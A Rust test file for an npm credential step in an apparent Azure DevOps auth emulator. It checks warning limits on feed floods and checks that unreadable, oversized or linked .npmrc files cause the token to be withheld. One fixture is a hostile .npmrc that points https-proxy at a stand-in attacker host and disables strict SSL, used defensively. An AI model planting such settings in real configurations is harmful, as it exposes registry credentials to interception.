//! Files that are large, many, or cannot be read: what the step says, how long it takes, and that nothing hides behind them.

use std::fmt::Write;
use std::time::{Duration, Instant};

use ado_entra_auth_emulator::agent::{Job, StepOutcome};

use crate::modes::link;
use crate::npm::{FEED, FLAGS, installed, package};
use crate::support::{emulator, in_parallel, job, run, step, tool, variable, warned, write, write_file};

/// Text that repeats with a number.
fn repeated(count: usize, line: impl Fn(usize) -> String) -> String {
    (0..count).fold(String::new(), |mut text, number| {
        let _ = writeln!(text, "{}", line(number));
        text
    })
}

/// The figures for larger ones are measured by hand, with a release build.
#[test]
fn floods_of_feeds_make_at_most_twenty_warnings_and_a_count() {
    let foreign = |number: usize| format!("https://pkgs.dev.azure.com/o{number}/_packaging/f/npm/registry/");
    let rows = [
        (".npmrc", repeated(20_000, |number| format!("@s{number}:registry={}", foreign(number)))),
        ("package-lock.json", repeated(60_000, |number| format!("\"resolved\": \"{}x.tgz\",", foreign(number)))),
        (
            "yarn.lock",
            repeated(60_000, |number| format!("  resolved \"{}x.tgz\"", foreign(number).replace("https", "http"))),
        ),
    ];
    for (path, text) in rows {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, "app/.npmrc", format!("registry={FEED}\n"));
        write(&job, path, text);
        let started = Instant::now();
        let outcome = run(&emulator, &mut job, &step());
        assert!(started.elapsed() < Duration::from_secs(40), "{path} {:?}", started.elapsed());
        assert!((1..=21).contains(&outcome.warnings.len()), "{path} {}", outcome.warnings.len());
        assert!(outcome.log.len() < 20_000, "{path} {}", outcome.log.len());
        if path != "yarn.lock" {
            assert!(warned(&outcome, &["further warnings"]), "{path} {:?}", outcome.warnings);
        }
    }
}

/// What a client may read and we cannot takes the credential away, with the reason.
#[test]
fn a_file_that_cannot_be_read_takes_the_credential_away() {
    let evil = "https-proxy=http://evil.example:8099\nstrict-ssl=false\n";
    let padded = |bytes: usize| format!("{evil}{}", "; x\n".repeat(bytes / 4));
    let rows: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("many short lines", ".npmrc", padded(40 << 20).into_bytes(), "larger than 8 MiB"),
        ("a little too large", "web/.npmrc", padded(9 << 20).into_bytes(), "larger than 8 MiB"),
        ("beyond all reading", ".npmrc", padded(65 << 20).into_bytes(), "larger than 64 MiB"),
        ("a lock file beyond all reading", "yarn.lock", padded(65 << 20).into_bytes(), "larger than 64 MiB"),
        ("cut UTF-16", ".npmrc", [b"\xff\xfe\n".as_slice(), evil.as_bytes()].concat(), "UTF-16"),
    ];
    in_parallel(&rows, |(name, path, bytes, reason)| {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, "app/.npmrc", format!("registry={FEED}\n"));
        write(&job, path, bytes);
        let outcome = run(&emulator, &mut job, &step());
        withheld(&job, &outcome, path, reason, name);
    });
    let emulator = emulator();
    let mut job = job(&emulator);
    write(&job, "app/.npmrc", format!("registry={FEED}\n"));
    link(".npmrc", job.sources().join(".npmrc")).unwrap();
    let outcome = run(&emulator, &mut job, &step());
    withheld(&job, &outcome, ".npmrc", "symbolic links", "a link to itself");
}

fn withheld(job: &Job<'_>, outcome: &StepOutcome, path: &str, reason: &str, name: &str) {
    assert!(warned(outcome, &["npm: no feed gets a token", path, reason]), "{name}: {:?}", outcome.warnings);
    assert_eq!(outcome.warnings.len(), 1, "{name}: {:?}", outcome.warnings);
    assert_eq!(variable(job, "NPM_CONFIG_USERCONFIG"), "", "{name}");
}

/// What no client takes for its file, or what is large and harmless, hinders nothing.
#[test]
fn what_no_client_reads_hinders_nothing() {
    if tool("npm").is_none() {
        return;
    }
    let emulator = emulator();
    let mut job = job(&emulator);
    write(&job, "app/.npmrc", format!("registry={FEED}\n"));
    write(&job, "app/package.json", package(&["@contoso/hello"]));
    write(&job, "web/.npmrc/readme.txt", "a folder");
    std::fs::create_dir_all(job.sources().join("pipes")).unwrap();
    let made = std::process::Command::new("mkfifo").arg(job.sources().join("pipes/.npmrc")).status().unwrap();
    assert!(made.success());
    // Twenty megabytes of a lock file, and a file of configuration that is just small enough.
    let entry = |number: usize| format!("  resolved \"{FEED}p{number}/-/p{number}-1.0.0.tgz#0123456789abcdef\"");
    write(&job, "old/yarn.lock", repeated(150_000, entry));
    write(&job, "old/.npmrc", "; x\n".repeat((8 << 20) / 4));
    write_file(&job.home().join(".npmrc"), "fund=false\n");
    let outcome = run(&emulator, &mut job, &step());
    assert!(!outcome.warnings.iter().any(|warning| warning.contains("no feed gets")), "{:?}", outcome.warnings);
    let app = job.sources().join("app");
    let seen = job.run_script(&format!("npm install {FLAGS}"), &app).unwrap();
    assert!(installed(&app, "@contoso/hello"), "{}", seen.raw);
}
